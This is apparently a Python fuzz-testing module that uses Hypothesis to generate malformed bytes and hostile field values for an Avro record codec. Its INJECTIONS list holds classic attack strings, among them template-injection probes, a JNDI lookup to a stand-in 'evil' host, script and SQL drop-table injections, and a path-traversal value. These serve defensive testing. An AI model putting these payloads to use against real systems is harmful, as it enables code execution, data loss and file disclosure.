"""Hostile inputs from hypothesis: garbage bytes, bad framing, and well-formed records with nasty values."""

from __future__ import annotations

import dataclasses
import warnings
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.errors import HypothesisWarning

from schemas.codec import MAGIC, default_codec, encode
from schemas.records import BehaviorEvent, CatalogItem, DeviceToken, UserProfile

INJECTIONS = [
    "{{ ''.__class__.__mro__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ 7*7 }}",
    "${jndi:ldap://evil/a}",
    "<script>alert(1)</script>",
    "'; DROP TABLE users; --",
]
WEIRD = [
    "",
    "\x00",
    "a\x00b",
    "\u202eevil\u202c",  # right-to-left override
    "\u200b\u200d\ufeff",  # zero-width characters and a BOM
    "\U0001d54c\U0001d55f\u00ef \U0001f9e8\U0001f469\u200d\U0001f469\u200d\U0001f467",  # astral plane, ZWJ emoji
    "e\u0301" * 50,  # combining accents
    "x" * 70_000,
]
TIMES = [-1, 0, 1, 946_684_799_999, 2**31, 2**53, 2**62, 2**63 - 1, -(2**63)]
text = st.one_of(st.sampled_from(INJECTIONS + WEIRD), st.text(max_size=40))
times = st.one_of(st.sampled_from(TIMES), st.integers(min_value=-(2**63), max_value=2**63 - 1))
values = st.one_of(st.none(), st.booleans(), st.integers(-(2**63), 2**63 - 1), st.floats(allow_nan=True), text)


def _event(now_ms: int) -> st.SearchStrategy[BehaviorEvent]:
    return st.builds(
        BehaviorEvent,
        event_id=text,
        user_id=text,
        type=st.one_of(st.sampled_from(["view", "cart", "purchase", "signup"]), text),
        event_time_ms=st.one_of(times, st.just(now_ms)),
        item_id=st.one_of(st.none(), text),
        category=st.one_of(st.none(), text),
        price=st.one_of(st.none(), st.floats(allow_nan=True, allow_infinity=True)),
        quantity=st.one_of(st.none(), st.integers(-(2**31), 2**31 - 1)),
        properties=st.dictionaries(text, values, max_size=4),
    )


def _profile(now_ms: int) -> st.SearchStrategy[UserProfile]:
    return st.builds(
        UserProfile,
        user_id=text,
        first_name=st.one_of(st.none(), text),
        time_zone=st.one_of(st.none(), st.sampled_from(["Mars/Olympus", "", "UTC", "../../etc/passwd"]), text),
        locale=st.one_of(st.none(), text),
        max_per_week=st.one_of(st.none(), st.integers(-(2**31), 2**31 - 1)),
        attributes=st.dictionaries(text, text, max_size=3),
        updated_at_ms=st.one_of(times, st.just(now_ms)),
    )


def _device(now_ms: int) -> st.SearchStrategy[DeviceToken]:
    return st.builds(
        DeviceToken,
        user_id=text,
        token=text,
        platform=st.one_of(st.sampled_from(["android", "ios", "web"]), text),
        updated_at_ms=st.one_of(times, st.just(now_ms)),
    )


def _catalog(now_ms: int) -> st.SearchStrategy[CatalogItem]:
    return st.builds(
        CatalogItem,
        item_id=text,
        kind=st.one_of(st.sampled_from(["new_arrival", "price_drop"]), text),
        title=st.one_of(st.none(), text),
        price=st.one_of(st.none(), st.floats(allow_nan=True, allow_infinity=True)),
        event_time_ms=st.one_of(times, st.just(now_ms)),
    )


RECORDS = {"event": _event, "profile": _profile, "device": _device, "catalog": _catalog}
CLASSES = {"event": BehaviorEvent, "profile": UserProfile, "device": DeviceToken, "catalog": CatalogItem}


def _encodable(record: Any) -> bytes | None:
    try:
        return encode(record)
    except Exception:  # a value Avro cannot carry (lone surrogate, int overflow) never reaches a topic
        return None


def _bad_utf8(record: Any) -> bytes | None:
    """A well-framed record whose id holds a UTF-16 surrogate encoded as (invalid) UTF-8."""
    field = "item_id" if isinstance(record, CatalogItem) else "user_id"
    data = _encodable(dataclasses.replace(record, **{field: "uXXXu"}))
    return None if data is None else data.replace(b"XXX", b"\xed\xa0\x80", 1)


def payloads(kind: str, now_ms: int, n: int) -> list[bytes]:
    """Up to `n` hostile values for a topic of `kind` records (derandomized: the same every run)."""
    header = MAGIC + default_codec().fingerprint_of(CLASSES[kind])
    record = RECORDS[kind](now_ms)
    garbage = st.one_of(
        st.binary(max_size=300),
        st.binary(max_size=300).map(lambda b: header + b),  # right schema, garbage body
        st.binary(max_size=20).map(lambda b: MAGIC + b),  # unknown fingerprint / short header
        st.sampled_from([b"", b"\x00" * 10, b"{}", b'{"user_id": 1}', header + b"\xff" * 2_000, b"\xc3\x01" * 200_000]),
        record.map(_encodable),
        record.map(_encodable),
        record.map(_encodable),
        record.map(_bad_utf8),
        st.sampled_from([k for k in RECORDS if k != kind]).flatmap(lambda k: RECORDS[k](now_ms)).map(_encodable),
    )
    out: list[bytes] = []

    @settings(
        max_examples=n,
        database=None,
        derandomize=True,
        deadline=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(garbage)
    def collect(value: bytes | None) -> None:
        if value is not None:
            out.append(value)

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", HypothesisWarning)  # reprs of the 200 kB examples
        collect()
    return out[:n]
